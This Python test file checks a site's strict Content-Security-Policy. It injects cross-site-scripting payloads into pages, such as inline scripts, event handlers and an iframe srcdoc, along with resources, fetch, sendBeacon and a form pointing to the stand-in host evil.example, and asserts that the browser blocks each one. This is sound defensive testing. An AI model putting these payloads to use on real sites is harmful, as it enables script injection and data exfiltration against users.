"""The policy of every page is strict, and a browser refuses what it does not name."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, Request, Route

from browser import addresses, file_of

#: What a page may load, run and do; all else is refused.
_POLICY = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self' data:",
    "connect-src": "'self'",
    "manifest-src": "'self'",
    "worker-src": "'self'",
    "base-uri": "'none'",
    "form-action": "'none'",
}


def test_every_page_has_the_strict_policy_before_all_else(site: Path) -> None:
    first = re.compile('<head>\n<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
    paths = addresses(site)
    assert len(paths) > 100
    for path in paths:
        html = file_of(site, path).read_text()
        [found] = first.findall(html)
        directives = [one.strip().partition(" ") for one in found.split(";")]
        assert {name: sources for name, _, sources in directives} == _POLICY, path
        assert len(directives) == len(_POLICY), path
        assert html.count("http-equiv") == 1, path


#: What somebody who could write into a page would try, and the directive that forbids it.
_INJECTED = {
    "<script>window.__ran = 'inline'</script>": "script-src-elem",
    "<script type=module>window.__ran = 'module'</script>": "script-src-elem",
    "<script src='data:text/javascript,window.__ran=1'></script>": "script-src-elem",
    "<script src='https://evil.example/x.js'></script>": "script-src-elem",
    "<svg><script>window.__ran = 'svg'</script></svg>": "script-src-elem",
    "<img src=icon.svg onload='window.__ran = 1' onerror='window.__ran = 1'>": "script-src-attr",
    "<details open ontoggle='window.__ran = 1'></details>": "script-src-attr",
    "<style>h1 { display: none }</style>": "style-src-elem",
    "<link rel=stylesheet href='https://evil.example/x.css'>": "style-src-elem",
    "<p style='position: fixed'></p>": "style-src-attr",
    "<img src='https://evil.example/x.png'>": "img-src",
    "<iframe src='https://evil.example/'></iframe>": "frame-src",
    "<iframe srcdoc='<script>parent.__ran = 1</script>'></iframe>": "script-src-elem",
    "<object data='https://evil.example/'></object>": "object-src",
    "<audio src='https://evil.example/x.mp3'></audio>": "media-src",
    "<base href='https://evil.example/'>": "base-uri",
}

#: The same from a script of the site's own, which may run.
_OWN = """
const ran = [];
for (const run of [
    () => eval("ran.push('eval')"),
    () => new Function("ran.push('Function')")(),
    () => setTimeout("window.__ran = 'timer'"),
]) try { run(); } catch (error) { ran.push(error.name); }
window.evaluated = ran;
document.body.setAttribute("onclick", "window.__ran = 'handler'");
document.body.click();
fetch("https://evil.example/").catch(() => {});
navigator.sendBeacon("https://evil.example/", "x");
const link = document.body.appendChild(document.createElement("a"));
link.href = "javascript:window.__ran = 'link'";
link.click();
const form = document.body.appendChild(document.createElement("form"));
form.action = "https://evil.example/";
addEventListener("load", () => setTimeout(() => form.submit()));
"""


@pytest.mark.browser
@pytest.mark.parametrize("path", ["", "advisor/", "rule/answer-at-once/"])
def test_what_is_put_into_a_page_neither_runs_nor_loads(
    page: Page, site: Path, base_url: str, path: str
) -> None:
    html = file_of(site, path).read_text()
    put_in = [*_INJECTED, "<script src='own.js'></script>"]

    def served(route: Route) -> None:
        body = html.replace("</main>", "".join(put_in) + "</main>")
        route.fulfill(body=body, content_type="text/html")

    page.add_init_script(
        """window.refused = [];
        addEventListener("securitypolicyviolation", (event) =>
            refused.push([event.effectiveDirective, event.blockedURI]));"""
    )
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))
    page.route(f"{base_url}/{path}", served)
    page.route("**/own.js", lambda route: route.fulfill(body=_OWN, content_type="text/javascript"))
    page.goto(f"{base_url}/{path}")
    page.wait_for_load_state("networkidle")
    # What is refused last comes last.
    for _ in range(100):
        refused = page.evaluate("refused")
        if any(directive == "form-action" for directive, _ in refused):
            break
        page.wait_for_timeout(20)
    found = {directive for directive, _ in refused}
    assert found == {*_INJECTED.values(), "script-src", "connect-src", "form-action"}
    assert ["script-src", "eval"] in refused
    assert page.evaluate("evaluated") == ["EvalError", "EvalError"]
    assert page.evaluate("window.__ran") is None
    assert page.locator("h1").first.is_visible()
    assert page.url == f"{base_url}/{path}"
    # Chromium tells of some of them and stops them, for the same reason.
    elsewhere = [one for one in asked if one.url.startswith("https://")]
    assert {one.failure for one in elsewhere} <= {"csp"}
